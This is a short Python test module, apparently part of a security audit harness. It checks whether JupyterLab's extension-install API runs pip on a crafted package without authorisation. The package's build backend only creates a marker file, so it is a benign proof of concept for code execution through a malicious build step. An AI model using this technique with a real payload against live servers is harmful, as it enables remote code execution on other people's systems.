"""JupyterLab's extension installer: pip, in the server's environment, on whatever is named. No Authorizer is asked."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

from attack_house import Attacker

CAUSES = {"closed"}

NAME = "audit-attack-trap"
FILES = {
    "PKG-INFO": f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1\n",
    "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "trap"\nbackend-path = ["."]\n',
    "trap.py": "open({mark!r}, 'w').close()\n",
}
"""A package whose build leaves the mark, and then fails, so that nothing is installed."""


def strike(person: Attacker, mark: Path) -> bool:
    packages = person.work / "packages"
    packages.mkdir(exist_ok=True)
    with tarfile.open(packages / "audit_attack_trap-1.tar.gz", "w:gz") as archive:
        for name, text in FILES.items():
            data = text.replace("{mark!r}", repr(str(mark))).encode()
            member = tarfile.TarInfo(f"audit_attack_trap-1/{name}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    status, answer = person.request("POST", "/lab/api/extensions", {"cmd": "install", "extension_name": NAME})
    assert status == 403 or mark.exists(), answer
    return status != 403
